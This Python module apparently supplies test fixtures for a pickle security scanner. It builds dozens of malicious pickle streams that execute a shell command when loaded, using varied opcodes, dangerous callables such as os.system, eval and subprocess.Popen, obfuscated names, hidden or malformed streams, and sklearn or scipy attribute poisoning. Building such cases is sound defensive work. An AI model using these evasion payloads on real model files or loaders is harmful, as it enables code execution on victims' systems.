"""Pickle streams that would run a payload, each by another way. The payload only makes a file.

An attack is a function of the payload's shell command; it gives the stream.
"""

import pickle
import struct
from collections.abc import Callable

Attack = Callable[[str], bytes]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def args(*values: str) -> bytes:
    return b"(" + b"".join(map(text, values)) + b"t"


def reduced(module: str, name: str, *values: str) -> bytes:
    return named(module, name) + args(*values) + b"R"


def proto(number: int, body: bytes) -> bytes:
    return b"\x80" + bytes([number]) + body + b"."


def _by_reduce(module: str, name: str) -> Attack:
    return lambda command: proto(2, reduced(module, name, command))


def _by_stack_global(module: str, name: str) -> Attack:
    return lambda command: proto(4, stacked(module, name) + args(command) + b"R")


def _python(command: str) -> str:
    return f"__import__('os').system({command!r})"


def _protocol_zero(command: str) -> bytes:
    return f"cos\nsystem\n(S'{command}'\ntR.".encode()


def _memoized(command: str) -> bytes:
    strings = text("system") + b"q\x07" + text("os") + b"q\x03" + b"00"
    return proto(4, strings + b"h\x03h\x07\x93" + args(command) + b"R")


def _memoized_in_order(command: str) -> bytes:
    strings = text("os") + b"\x94" + text("system") + b"\x9400"
    return proto(4, strings + b"h\x00h\x01\x93" + args(command) + b"R")


def _inst(command: str) -> bytes:
    return b"(" + f"S'{command}'\nios\nsystem\n.".encode()


def _inst_cut_short(command: str) -> bytes:
    # the unpickler written in Python takes the last byte of a file for a newline
    return b"(" + f"S'{command}'\nios\nsystemX".encode()


def _obj(command: str) -> bytes:
    return proto(2, b"(" + named("os", "system") + text(command) + b"o")


def _newobj(command: str) -> bytes:
    return proto(2, named("subprocess", "Popen") + args(command) + b"\x81")


def _newobj_ex(command: str) -> bytes:
    keywords = b"}" + text("args") + text(command) + b"s"
    return proto(4, stacked("subprocess", "Popen") + b")" + keywords + b"\x92")


def _extension(code: bytes) -> Attack:
    return lambda command: proto(2, code + args(command) + b"R")


def _dotted(module: str, name: str) -> Attack:
    return lambda command: proto(4, stacked(module, name) + args(_python(command)) + b"R")


def _spelled_by_escapes(command: str) -> bytes:
    names = b"V\\u006fs\n" + b"Vsyst\\u0065m\n"
    return proto(4, names + b"\x93" + args(command) + b"R")


def _spelled_in_hex(command: str) -> bytes:
    names = b"S'o\\x73'\n" + b"S'\\x73ystem'\n"
    return proto(4, names + b"\x93" + args(command) + b"R")


def _after_a_lot_of_data(command: str) -> bytes:
    return proto(4, b"B" + struct.pack("<I", 1 << 20) + b"." * (1 << 20) + b"0" +
                 stacked("os", "system") + args(command) + b"R")  # fmt: skip


def _among_numbers_in_text(command: str) -> bytes:
    return b"I0x10\n0L12L\n0F1e5\n0" + _protocol_zero(command)


def _broken(rest: bytes) -> Attack:
    return lambda command: b"\x80\x02" + reduced("os", "system", command) + rest


def _unframed_protocol(command: str) -> bytes:
    return b"\x95" + struct.pack("<Q", 4) + b"N0N0" + _protocol_zero(command)


def _second_in_a_row(command: str) -> bytes:
    return pickle.dumps({"weights": [1.0]}) + _protocol_zero(command)


def _third_in_a_row(command: str) -> bytes:
    return pickle.dumps([1]) + pickle.dumps([2]) + _protocol_zero(command)


def _behind_a_read_only_buffer(command: str) -> bytes:
    return b"C\x01a\x980" + _protocol_zero(command)


def _before_a_persistent_id(command: str) -> bytes:
    return proto(2, reduced("os", "system", command) + b"0" + text("x") + b"Q")


def _call_of_a_result(command: str) -> bytes:
    attribute = reduced("builtins", "getattr") + b"0" + named("builtins", "dict")
    return proto(2, attribute + args(command) + b"R" + args(command) + b"R")


def _attribute_of_a_class(command: str) -> bytes:
    # BUILD with a pair sets attributes, of a class too: every later estimator would have it
    state = b"N}" + text("predict") + named("os", "system") + b"s\x86"
    return proto(2, named("sklearn.base", "BaseEstimator") + state + b"b" + args(command) + b"0")


def _own_attribute_as_setstate(command: str) -> bytes:
    # the unpickler looks `__setstate__` up on the object, which has just been given one
    made = named("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    first = b"}" + text("__setstate__") + named("os", "system") + b"sb"
    return proto(2, made + first + text(command) + b"b")


def _own_attribute_as_append(command: str) -> bytes:
    made = named("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    first = b"}" + text("append") + named("os", "system") + b"sb"
    return proto(2, made + first + text(command) + b"a")


def _partial(command: str) -> bytes:
    return proto(
        2, named("functools", "partial") + named("os", "system") + text(command) + b"\x86R"
    )


def _exec_in_setstate(command: str) -> bytes:
    # scipy's distributions run a string of their own state: every name in here is scipy's
    made = named("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    state = b"}" + text("_parse_arg_template") + text(_python(command)) + b"sb"
    return proto(2, made + state)


def _import_alone(_: str) -> bytes:
    return b"cantigravity\nfly\n."  # importing is running


PICKLES: dict[str, Attack] = {
    "protocol 0": _protocol_zero,
    "memoized strings": _memoized,
    "memoized strings in order": _memoized_in_order,
    "INST": _inst,
    "INST cut short": _inst_cut_short,
    "OBJ": _obj,
    "NEWOBJ": _newobj,
    "NEWOBJ_EX": _newobj_ex,
    "EXT1": _extension(b"\x82\x05"),
    "EXT2": _extension(b"\x83\x05\x05"),
    "EXT4": _extension(b"\x84\x05\x05\x05\x05"),
    "a name with dots": _dotted("builtins", "eval.__call__"),
    "a name with dots under an allowed module": _dotted("sklearn.base", "inspect.os.system"),
    "a class's method": _dotted("sklearn.ensemble._forest", "RandomForestClassifier.fit"),
    "text escapes": _spelled_by_escapes,
    "hex escapes": _spelled_in_hex,
    "behind data": _after_a_lot_of_data,
    "among numbers in text": _among_numbers_in_text,
    "no STOP": _broken(b""),
    "no such instruction": _broken(b"\xff\xff"),
    "underflow": _broken(b"0000000."),
    "frame without protocol": _unframed_protocol,
    "second of two": _second_in_a_row,
    "third of three": _third_in_a_row,
    "behind a read-only buffer": _behind_a_read_only_buffer,
    "before a persistent id": _before_a_persistent_id,
    "call of a result": _call_of_a_result,
    "attribute of a class": _attribute_of_a_class,
    "own attribute as __setstate__": _own_attribute_as_setstate,
    "own attribute as append": _own_attribute_as_append,
    "partial": _partial,
    "exec in an allowed library's __setstate__": _exec_in_setstate,
    "import alone": _import_alone,
    "import, then broken": lambda _: b"cantigravity\nfly\ntR.",
    "import of no name, then broken": lambda _: b"I0x10\n0cantigravity\n'no name'\nt",
} | {
    f"{module}.{name} by {way}": attack(module, name)
    for module, name in (
        ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"),
        ("builtins", "eval"), ("builtins", "exec"), ("builtins", "compile"), ("builtins", "open"),
        ("builtins", "__import__"), ("builtins", "getattr"), ("builtins", "map"),
        ("__builtin__", "eval"), ("__builtin__", "apply"), ("commands", "getoutput"),
        ("subprocess", "Popen"), ("subprocess", "check_output"), ("runpy", "_run_code"),
        ("importlib", "import_module"), ("pip", "main"), ("pip._internal.cli.main", "main"),
        ("pty", "spawn"), ("ctypes", "CDLL"), ("webbrowser", "open"), ("timeit", "timeit"),
        ("code", "InteractiveInterpreter"), ("operator", "attrgetter"), ("types", "FunctionType"),
        ("shutil", "rmtree"), ("pathlib", "Path.write_text"), ("socket", "create_connection"),
        ("urllib.request", "urlopen"), ("numpy", "load"), ("numpy", "memmap"),
        ("numpy", "fromfile"), ("numpy", "vectorize"), ("numpy.f2py.__main__", "main"),
        ("numpy.testing._private.utils", "runstring"), ("numpy", "object_"),
        ("pandas", "read_pickle"), ("pandas", "eval"), ("pandas.io.pickle", "read_pickle"),
        ("joblib", "load"), ("joblib.numpy_pickle", "load"), ("joblib.memory", "Memory"),
        ("sklearn.utils._joblib", "joblib"), ("sklearn.conftest", "Pipeline"),
        ("sklearn.utils.tests.test_utils", "Pipeline"), ("torch", "load"), ("torch.hub", "load"),
        ("torch._tensor", "_rebuild_from_type_v2"), ("xgboost.core", "Booster"),
        ("cloudpickle.cloudpickle", "_make_function"), ("dill._dill", "_create_code"),
        ("_pickle", "loads"), ("marshal", "loads"), ("logging.config", "fileConfig"),
    )
    for way, attack in (("REDUCE", _by_reduce), ("STACK_GLOBAL", _by_stack_global))
}  # fmt: skip

LIVE: dict[str, Attack] = {
    name: PICKLES[name]
    for name in (
        "protocol 0", "memoized strings", "INST", "text escapes", "hex escapes",
        "among numbers in text", "no STOP", "frame without protocol", "behind a read-only buffer",
        "before a persistent id", "own attribute as __setstate__", "own attribute as append",
        "exec in an allowed library's __setstate__",
    )
}  # fmt: skip
"""Those that are proved to run where they are loaded, so that refusing them means something."""
